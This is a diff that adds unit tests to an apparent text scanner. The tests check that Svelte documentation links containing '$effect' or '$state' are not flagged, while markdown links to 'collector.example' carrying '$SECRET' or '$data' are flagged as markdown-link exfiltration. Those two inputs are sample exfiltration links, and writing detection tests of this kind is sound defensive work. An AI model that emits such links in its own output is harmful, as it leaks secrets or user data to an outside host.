@@ -899,3 +899,13 @@ describe('Knack: piping into an interpreter is execution only when it runs the p
     }
   });
 });
+
+describe('Knack: markdown links with a $ in the path', () => {
+  it('a lower-case $name page in a documentation path is not a variable', () => {
+    expect(scanText('See [effect](https://svelte.dev/docs/svelte/$effect#$effect.pre) and [state](https://svelte.dev/docs/svelte/$state).')).toEqual([]);
+  });
+  it('an upper-case $VAR path segment or a $var in the query is', () => {
+    expect(ids('[x](https://collector.example/$SECRET)')).toContain('md_link_exfil');
+    expect(ids('[x](https://collector.example/p?d=$data)')).toContain('md_link_exfil');
+  });
+});
